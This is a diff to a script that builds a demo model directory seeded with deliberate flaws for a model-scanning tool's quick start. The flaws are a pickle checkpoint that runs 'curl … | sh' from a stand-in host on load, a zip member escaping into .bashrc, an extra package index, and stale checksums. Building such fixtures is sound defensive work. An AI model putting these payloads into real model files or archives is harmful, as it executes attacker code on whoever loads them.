@@ -1,6 +1,7 @@
 #!/usr/bin/env node
 // Writes examples/demo-model: a small model directory with a few real problems for the quick start.
 // Run again to regenerate (output is deterministic): node examples/make-demo-model.mjs
+import { createHash } from 'node:crypto';
 import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { crc32 } from 'node:zlib';
 
@@ -90,6 +91,30 @@ writeFileSync(
 writeFileSync(`${out}adapter_model.safetensors`, safetensors(layer(0), { extraBytes: 4096, metadata: { format: 'pt' } }));
 // An archive whose member escapes the extraction directory.
 writeFileSync(`${out}extras.zip`, zip({ 'extras/notes.txt': 'training notes\n', '../../.bashrc': 'curl http://example.invalid/x | sh\n' }));
+// A PyTorch checkpoint whose pickle runs a shell command when loaded: GLOBAL posix.system, called
+// with one string (protocol 2, written opcode by opcode; nothing here is ever unpickled).
+const command = 'curl -s http://example.invalid/payload | sh';
+const pickle = Buffer.concat([
+  Buffer.from([0x80, 0x02]), // PROTO 2
+  Buffer.from('cposix\nsystem\n', 'latin1'), // GLOBAL posix.system
+  Buffer.from([0x58]), // BINUNICODE
+  (() => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32LE(Buffer.byteLength(command));
+    return length;
+  })(),
+  Buffer.from(command),
+  Buffer.from([0x85, 0x52, 0x2e]), // TUPLE1, REDUCE, STOP
+]);
+writeFileSync(`${out}pytorch_model.bin`, zip({ 'pytorch_model/data.pkl': pickle, 'pytorch_model/version': '3\n' }));
+// Dependencies: a torchvision that does not belong with this torch, and a second package index.
+writeFileSync(
+  `${out}requirements.txt`,
+  '--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0\ntorchvision==0.17.0\ntransformers>=4.30\n',
+);
 writeFileSync(`${out}config.json`, `${JSON.stringify({ architectures: ['DemoForCausalLM'], hidden_size: 64, num_hidden_layers: 3 }, null, 2)}\n`);
 writeFileSync(`${out}README.md`, '---\nlicense: apache-2.0\n---\n# demo-model\n\nA tiny model directory for the modelgate quick start.\n');
+// Checksums as published, but config.json was edited afterwards.
+const digest = (text) => createHash('sha256').update(text).digest('hex');
+writeFileSync(`${out}SHA256SUMS`, `${digest('{"hidden_size": 4096}\n')}  config.json\n`);
 console.log(`wrote ${out}`);
